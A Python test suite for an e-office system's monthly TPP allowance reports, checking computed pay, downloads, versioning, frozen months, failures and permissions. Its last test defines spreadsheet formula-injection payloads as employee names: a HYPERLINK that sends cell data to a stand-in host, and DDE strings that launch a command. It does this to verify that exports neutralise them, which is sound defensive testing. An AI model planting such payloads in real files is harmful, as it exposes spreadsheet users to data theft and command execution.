"""The monthly TPP report through the API and the report function: a unit's month against
hand-computed amounts, downloads with their SHA-256, explanations, the same data twice, late
data making a new version with what changed, frozen months, failed runs, and who may do what."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from datetime import UTC, date, datetime
from typing import Any

import httpx
import pytest
from eoffice_local.environment import LocalEnvironment
from support.api import Api
from support.attendance import Site
from support.events import EventTap
from support.organisation import new_unit, unit_of
from support.tpp import ReportRuns, correct, seed_month, unchanged_since, with_tpp

MONTH = "2024-04"
FIRST = date(2024, 4, 1)
TPP = 4_000_000
LONG_AGO = datetime(2024, 1, 1, tzinfo=UTC)


class Month:
    """A unit whose April 2024 was seeded, with the amounts computed by hand (30 working days:
    the site works every day)."""

    def __init__(self, api: Api, env: LocalEnvironment) -> None:
        self.api = api
        self.runs = ReportRuns(env)
        self.site = Site(api, unit_of(api, "kadis.kominfo"))
        unit = self.site.unit_id
        self.late, self.absent, self.penalised, self.pending = (
            with_tpp(api, self.site.staff(), TPP) for _ in range(4)
        )
        # late: d3 in 08:01 (31 min, TL2 1 %), d5 no check-out (PSW4 2.5 %), d7 nothing (TK 3 %)
        seed_month(
            self.late,
            unit,
            FIRST,
            skip={7},
            d3=[("in", "accepted", (8, 1)), ("out", "accepted", (16, 5))],
            d5=[("in", "accepted", (7, 20))],
        )
        # penalised: perfect, d1 corrected to izin (1 %), and a 10 % penalty this month
        seed_month(self.penalised, unit, FIRST)
        correct(api, self.penalised.nip, FIRST, status="leave", leave_type="izin")
        penalty = {
            "nip": self.penalised.nip,
            "percent": "10",
            "from_month": MONTH,
            "months": 1,
            "reason": "Hukuman disiplin sedang",
            "decree_number": "800/12/BKPSDM/2024",
        }
        answer = api.post("/tpp/penalties", user="tpp.bkpsdm", json_body=penalty)
        assert answer.status == 201, answer.body
        # pending: d10's check-in waits for review; the out alone counts (TL4 2.5 %)
        seed_month(
            self.pending,
            unit,
            FIRST,
            d10=[("in", "pending_review", (7, 25)), ("out", "accepted", (16, 5))],
        )
        for staff in (self.late, self.absent, self.penalised, self.pending):
            unchanged_since(staff.nip, LONG_AGO)
        # moved: his month was recorded in another unit; he belongs here now
        elsewhere = Site(api, unit_of(api, "kadis.kominfo"))
        self.moved = with_tpp(api, elsewhere.staff(), 2_500_000)
        seed_month(self.moved, elsewhere.unit_id, FIRST)
        moved = api.patch(f"/employees/{self.moved.nip}", user="admin", json_body={"unit_id": unit})
        assert moved.status == 200, moved.body
        self.expected = {
            self.late.nip: (TPP, "6.50", 260_000, 3_740_000),
            self.absent.nip: (TPP, "100.00", TPP, 0),
            self.penalised.nip: (TPP, "11.00", 440_000, 3_560_000),
            self.pending.nip: (TPP, "2.50", 100_000, 3_900_000),
            self.moved.nip: (2_500_000, "0.00", 0, 2_500_000),
            self.site.head["nip"]: (0, "100.00", 0, 0),  # no TPP set, no check-ins
        }

    def request(self, user: str = "tpp.bkpsdm", **body: Any) -> Any:
        body = {"month": MONTH, "unit_id": self.site.unit_id, **body}
        return self.api.post("/tpp/reports", user=user, json_body=body)

    def run(self) -> dict[str, Any]:
        """Ask, let the report function handle it, and return the month's status."""
        asked = self.request()
        assert asked.status == 202, asked.body
        assert asked.json["state"] == "queued"
        assert self.runs.drain() >= 1
        return self.status()

    def status(self) -> dict[str, Any]:
        answer = self.api.get(f"/tpp/reports/{MONTH}?unit={self.site.unit_id}", user="tpp.bkpsdm")
        assert answer.status == 200, answer.body
        return answer.json  # type: ignore[no-any-return]

    def files(self, version: int | None = None) -> dict[str, bytes]:
        query = f"?unit={self.site.unit_id}" + (f"&version={version}" if version else "")
        links = self.api.get(f"/tpp/reports/{MONTH}/files{query}", user="tpp.bkpsdm")
        assert links.status == 200, links.body
        found = {}
        for link in links.json:
            body = httpx.get(link["url"]).content
            assert hashlib.sha256(body).hexdigest() == link["sha256"]
            found[link["name"]] = body
        return found


@pytest.fixture(scope="module")
def month(api: Api, local_env: LocalEnvironment) -> Month:
    return Month(api, local_env)


def _rows(body: bytes) -> dict[str, dict[str, str]]:
    text = body.decode("utf-8-sig")
    return {row["NIP"]: row for row in csv.DictReader(io.StringIO(text))}


def test_a_units_month_is_paid_to_the_rupiah(month: Month) -> None:
    status = month.run()
    assert status["latest_version"] == 1 and not status["frozen"]
    (version,) = status["versions"]
    assert version["rule_set"]["version"] >= 1
    assert version["employees"] == 6
    assert version["pending_days"] == 1
    assert status["runs"][0]["state"] == "complete"
    names = {f["name"] for f in version["files"]}
    code = month.site.unit["code"]
    assert {f"tpp-{MONTH}.json", f"tpp-{MONTH}.csv", f"tpp-{MONTH}.xlsx"} <= names
    assert any(name.startswith("units/") and name.endswith(".xlsx") for name in names), code

    files = month.files()
    rows = _rows(files[f"tpp-{MONTH}.csv"])
    got = {
        nip: (
            int(r["TPP (Rp)"]),
            r["Total potongan (%)"],
            int(r["Potongan (Rp)"]),
            int(r["Dibayar (Rp)"]),
        )
        for nip, r in rows.items()
    }
    assert got == month.expected
    late = rows[month.late.nip]
    assert (late["TL2"], late["PSW4"], late["TK"], late["Hadir"]) == ("1", "1", "1", "29")
    assert rows[month.absent.nip]["Tanpa kehadiran"] == "Ya"
    assert rows[month.pending.nip]["Menunggu verifikasi"] == "1"
    document = json.loads(files[f"tpp-{MONTH}.json"])
    assert document["paid_total"] == sum(v[3] for v in month.expected.values())
    assert hashlib.sha256(files[f"tpp-{MONTH}.json"]).hexdigest() == version["json_sha256"]
    assert files[f"tpp-{MONTH}.xlsx"][:2] == b"PK"


def test_the_workbook_has_the_units_agency_with_its_section_as_a_group_to_the_rupiah(
    month: Month, api: Api
) -> None:
    """ADR 0026 through the report function: the unit is a section of Diskominfo, so the
    workbook has the summary and Diskominfo's sheet, the section a group one level down whose
    subtotal and the agency's total are the JSON's figures (as a spreadsheet reads them)."""
    import openpyxl

    if month.status()["latest_version"] is None:  # run alone: the first test did not run
        month.run()
    files = month.files()
    document = json.loads(files[f"tpp-{MONTH}.json"])
    agency = api.get(f"/units/{month.site.unit['parent_id']}", user="admin").json
    book = openpyxl.load_workbook(io.BytesIO(files[f"tpp-{MONTH}.xlsx"]), data_only=True)
    assert book.sheetnames == ["Ringkasan", agency["code"]]
    summary = [[c.value for c in row] for row in book["Ringkasan"].iter_rows(min_row=9, max_row=10)]
    money = [document["tpp_total"], document["deduction_total"], document["paid_total"]]
    assert summary[0] == [agency["code"], agency["name"], 6, *money]
    assert summary[1][1:] == ["Jumlah", 6, *money]
    sheet = book[agency["code"]]
    rows = [
        (sheet.row_dimensions[n].outline_level, [c.value for c in sheet[n]])
        for n in range(9, sheet.max_row + 1)
    ]
    rows = rows[: next(i for i, (_, cells) in enumerate(rows) if not any(cells))]
    code = month.site.unit["code"]
    assert [cells[:2] for _, cells in rows[:2]] == [
        [agency["code"], agency["name"]],
        [code, month.site.unit["name"]],
    ]
    people = rows[2:-2]
    assert sorted(cells[0] for _, cells in people) == sorted(
        e["nip"] for e in document["employees"]
    )
    assert {level for level, _ in people} == {2}  # one level under the section's subtotal
    (section_level, section), (agency_level, total) = rows[-2:]
    assert (section_level, agency_level) == (1, 0)
    assert section[:2] == [code, f"Jumlah {month.site.unit['name']} (6 pegawai)"]
    assert total[:2] == [agency["code"], f"Jumlah {agency['name']} (6 pegawai)"]
    assert section[-3:] == total[-3:] == money
    paid = {cells[0]: cells[-1] for _, cells in people}
    assert paid == {e["nip"]: e["paid"] for e in document["employees"]}


def test_computing_the_same_data_again_gives_the_same_bytes(month: Month) -> None:
    """Not only "nothing new is published": the month read and computed again renders to the
    very bytes of the published CSV and JSON."""
    from eoffice.tpp import reading, render, rule_sets
    from eoffice.tpp.computing import compute_month

    version = month.status()["versions"][0]
    rules = rule_sets.for_month(FIRST, version["rule_set"]["version"])
    again = [
        compute_month(MONTH, month.site.unit_id, rules, lambda: 900_000, reading.Phases())
        for _ in range(2)
    ]
    files = {f["name"]: f["sha256"] for f in version["files"]}
    for data in again:
        assert hashlib.sha256(render.report_json(data)).hexdigest() == files[f"tpp-{MONTH}.json"]
        assert hashlib.sha256(render.report_csv(data)).hexdigest() == files[f"tpp-{MONTH}.csv"]


def test_the_employee_sees_his_month_explained_day_by_day(month: Month, api: Api) -> None:
    path = f"/tpp/reports/{MONTH}/employees/{month.late.nip}?unit={month.site.unit_id}"
    answer = api.get(path, user=month.late.user)
    assert answer.status == 200, answer.body
    employee = answer.json["employee"]
    days = {d["day"]: d for d in employee["days"]}
    assert len(days) == 30
    assert (days["2024-04-03"]["late_band"], days["2024-04-03"]["percent"]) == ("TL2", "1.00")
    assert "Terlambat 31 menit" in days["2024-04-03"]["note"]
    assert (days["2024-04-05"]["early_band"], days["2024-04-05"]["percent"]) == ("PSW4", "2.50")
    assert (days["2024-04-07"]["status"], days["2024-04-07"]["percent"]) == ("absent", "3.00")
    assert employee["paid"] == 3_740_000
    assert api.get(path, user=month.site.head["username"]).status == 200
    other = api.get(path, user=month.absent.user)
    assert other.status == 403 and other.json["code"] == "not_your_staff"
    assert api.get(path, user="admin").status == 403  # pay is personal: not admins


def test_the_same_data_twice_publishes_nothing_new(month: Month) -> None:
    before = month.status()
    first = {f["name"]: f["sha256"] for f in before["versions"][-1]["files"]}
    status = month.run()
    assert status["latest_version"] == before["latest_version"]
    assert status["runs"][0]["state"] == "unchanged"
    assert status["runs"][0]["version"] == before["latest_version"]
    assert {f["name"]: f["sha256"] for f in status["versions"][-1]["files"]} == first


def test_a_rerun_after_a_corrected_day_makes_a_new_version_with_its_changes(
    month: Month, api: Api
) -> None:
    was = month.status()["latest_version"]
    old_files = month.files(was)
    correct(api, month.late.nip, date(2024, 4, 7), status="leave", leave_type="cuti_sakit")
    tap = EventTap(api, "eoffice.tpp")
    status = month.run()
    assert status["latest_version"] == was + 1
    (announced,) = [e for e in tap.drain() if e["detail-type"] == "TppReportPublished"]
    assert announced["detail"]["version"] == was + 1  # hr and the employee are told of it
    assert announced["detail"]["paid_changed"] == [month.late.nip]
    new = status["versions"][-1]
    assert new["changed_employees"] == 1
    files = month.files()
    changes = json.loads(files["perubahan.json"])
    (change,) = changes["employees"]
    assert change["nip"] == month.late.nip and change["change"] == "changed"
    assert {"day": "2024-04-07", "was": "TK", "now": "cuti_sakit"} in change["days"]
    assert int(_rows(files[f"tpp-{MONTH}.csv"])[month.late.nip]["Dibayar (Rp)"]) == 3_860_000
    # the earlier version stays as it was
    assert month.files(was) == old_files
    explained = api.get(
        f"/tpp/reports/{MONTH}/employees/{month.late.nip}?unit={month.site.unit_id}&version={was}",
        user="tpp.bkpsdm",
    )
    assert explained.json["employee"]["paid"] == 3_740_000


def test_a_frozen_month_is_never_computed_again(month: Month, local_env: LocalEnvironment) -> None:
    frozen = month.api.post(
        f"/tpp/reports/{MONTH}/freeze?unit={month.site.unit_id}", user="tpp.bkpsdm"
    )
    assert frozen.status == 200, frozen.body
    assert frozen.json["frozen"] and frozen.json["frozen_version"] == frozen.json["latest_version"]
    again = month.request()
    assert again.status == 409 and again.json["code"] == "month_frozen"
    twice = month.api.post(
        f"/tpp/reports/{MONTH}/freeze?unit={month.site.unit_id}", user="tpp.bkpsdm"
    )
    assert twice.status == 409
    # a request already queued before the freeze is refused by the report function
    from eoffice.tpp.report_models import RunOrder
    from eoffice.tpp.run import execute

    run = execute(
        RunOrder(MONTH, month.site.unit_id, "late-request", "request", "198001012006041001"),
        lambda: 900_000,
    )
    assert run.state == "refused" and run.error_code == "month_frozen"
    assert month.status()["latest_version"] == frozen.json["latest_version"]


def test_only_hr_runs_and_reads_reports(month: Month, api: Api) -> None:
    staff = month.request(user=month.late.user)
    assert staff.status == 403 and staff.json["code"] == "role_required"
    head = api.get(
        f"/tpp/reports/{MONTH}?unit={month.site.unit_id}", user=month.site.head["username"]
    )
    assert head.status == 403
    files = api.get(f"/tpp/reports/{MONTH}/files?unit={month.site.unit_id}", user="admin")
    assert files.status == 403


@pytest.mark.parametrize(
    ("body", "status", "code"),
    [
        ({"month": "2024-13"}, 422, None),
        ({"month": "2099-01"}, 422, "month_not_over"),
        ({"month": "2024-04", "unit_id": "no-such-unit"}, 404, "unit_not_found"),
        ({"month": "2024-04", "rule_set_version": 999}, 404, "rule_set_not_found"),
    ],
)
def test_bad_requests_are_refused(
    api: Api, body: dict[str, Any], status: int, code: str | None
) -> None:
    answer = api.post("/tpp/reports", user="tpp.bkpsdm", json_body=body)
    assert answer.status == status, answer.body
    assert answer.headers["content-type"].startswith("application/problem+json")
    if code:
        assert answer.json["code"] == code


class _Stop(RuntimeError):
    pass


def test_a_run_that_fails_midway_presents_nothing_and_rerunning_completes(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    from eoffice.tpp import store
    from eoffice.tpp.report_models import RunOrder
    from eoffice.tpp.run import execute

    site = Site(api, unit_of(api, "kadis.kominfo"))
    staff = with_tpp(api, site.staff(), 1_000_000)
    seed_month(staff, site.unit_id, date(2024, 5, 1))
    order = RunOrder("2024-05", site.unit_id, "fails-1", "request", "198001012006041001")

    def publish_fails(*args: Any, **kwargs: Any) -> None:
        raise _Stop("the function was stopped before publishing")

    monkeypatch.setattr(store, "publish", publish_fails)
    with pytest.raises(_Stop):
        execute(order, lambda: 900_000)
    monkeypatch.undo()
    status = api.get(f"/tpp/reports/2024-05?unit={site.unit_id}", user="tpp.bkpsdm").json
    assert status["latest_version"] is None and status["versions"] == []
    assert status["runs"][0]["state"] == "failed"
    assert (
        api.get(f"/tpp/reports/2024-05/files?unit={site.unit_id}", user="tpp.bkpsdm").status == 404
    )

    done = execute(order, lambda: 900_000)
    assert done.state == "complete" and done.version == 1
    status = api.get(f"/tpp/reports/2024-05?unit={site.unit_id}", user="tpp.bkpsdm").json
    assert status["latest_version"] == 1


def test_a_run_out_of_time_stops_cleanly(api: Api) -> None:
    from eoffice.tpp.budget_rules import OutOfTime
    from eoffice.tpp.report_models import RunOrder
    from eoffice.tpp.run import execute

    unit = new_unit(api, unit_of(api, "kadis.kominfo"))
    order = RunOrder("2024-06", unit["unit_id"], "slow-1", "request", "x")
    with pytest.raises(OutOfTime):
        execute(order, lambda: 1_000)
    status = api.get(f"/tpp/reports/2024-06?unit={unit['unit_id']}", user="tpp.bkpsdm").json
    assert (
        status["runs"][0]["state"] == "failed" and status["runs"][0]["error_code"] == "out_of_time"
    )
    assert status["latest_version"] is None


# ---------------------------------------------------------------- values a spreadsheet would run
FORMULAS = (
    '=HYPERLINK("http://x.invalid/?d="&A1,"Klik di sini")',
    "+62-812-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
)


def _xlsx_cells(body: bytes) -> tuple[set[str], list[str]]:
    """The text cells' values (shared strings) and every formula of a workbook."""
    import re
    import zipfile
    from xml.etree import ElementTree

    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        strings = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))  # noqa: S314 - ours
        texts = {"".join(t.text or "" for t in si.iter(f"{main}t")) for si in strings}
        formulas = []
        for name in archive.namelist():
            if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name):
                sheet = ElementTree.fromstring(archive.read(name))  # noqa: S314 - ours
                formulas += [f.text or "" for f in sheet.iter(f"{main}f")]
                inline = [c for c in sheet.iter(f"{main}c") if c.get("t") in {"str", "inlineStr"}]
                assert not inline, "text is written as shared strings only"
    return texts, formulas


def test_names_a_spreadsheet_would_run_are_kept_and_exported_as_text(
    api: Api, local_env: LocalEnvironment
) -> None:
    """Employees imported by CSV with names that start like formulas: the records keep them as
    entered, and every file of the month's report (CSV, XLSX, the changes after a rename)
    writes them so that a spreadsheet shows text and runs nothing."""
    from support.nips import fresh_nip

    site = Site(api, unit_of(api, "kadis.kominfo"))
    code = site.unit["code"]
    people = {fresh_nip(): name for name in FORMULAS}
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["nip", "name", "unit_code", "username", "tpp_amount"])
    for n, (nip, name) in enumerate(people.items()):
        writer.writerow([nip, name, code, f"rumus.{nip[-6:]}.{n}", "1.000.000"])
    answer = api.post(
        "/employees/import",
        user="admin",
        body=out.getvalue().encode(),
        headers={"content-type": "text/csv"},
    )
    assert answer.status == 200, answer.body
    for nip, name in people.items():
        assert api.get(f"/employees/{nip}", user="admin").json["name"] == name  # as entered

    runs = ReportRuns(local_env)

    def report() -> dict[str, bytes]:
        body = {"month": "2024-07", "unit_id": site.unit_id}
        assert api.post("/tpp/reports", user="tpp.bkpsdm", json_body=body).status == 202
        assert runs.drain() >= 1
        query = f"?unit={site.unit_id}"
        links = api.get(f"/tpp/reports/2024-07/files{query}", user="tpp.bkpsdm")
        assert links.status == 200, links.body
        return {link["name"]: httpx.get(link["url"]).content for link in links.json}

    files = report()
    csvs = [name for name in files if name.endswith(".csv")]
    assert {"tpp-2024-07.csv", f"units/{code}.csv"} <= set(csvs), sorted(files)
    for name in csvs:
        rows = _rows(files[name])
        for nip, person in people.items():
            assert rows[nip]["Nama"] == "'" + person, (name, rows[nip]["Nama"])
    workbooks = [name for name in files if name.endswith(".xlsx")]
    assert {"tpp-2024-07.xlsx", f"units/{code}.xlsx"} <= set(workbooks), sorted(files)
    for name in workbooks:
        texts, formulas = _xlsx_cells(files[name])
        assert set(people.values()) <= texts, name  # verbatim, as text cells
        totals = ("SUM(", "SUBTOTAL(9,")  # the only formulas: totals over the rows
        assert formulas and all(f.startswith(totals) for f in formulas), (name, formulas)
    assert json.loads(files["tpp-2024-07.json"])  # JSON carries the data as it is

    # A rename makes a new version; its list of changes names him, as text too.
    (renamed, *_) = people
    patched = api.patch(f"/employees/{renamed}", user="admin", json_body={"name": "=1+1 Andi Baso"})
    assert patched.status == 200, patched.body
    changes = _rows(report()["perubahan.csv"])
    assert changes[renamed]["Nama"] == "'=1+1 Andi Baso"
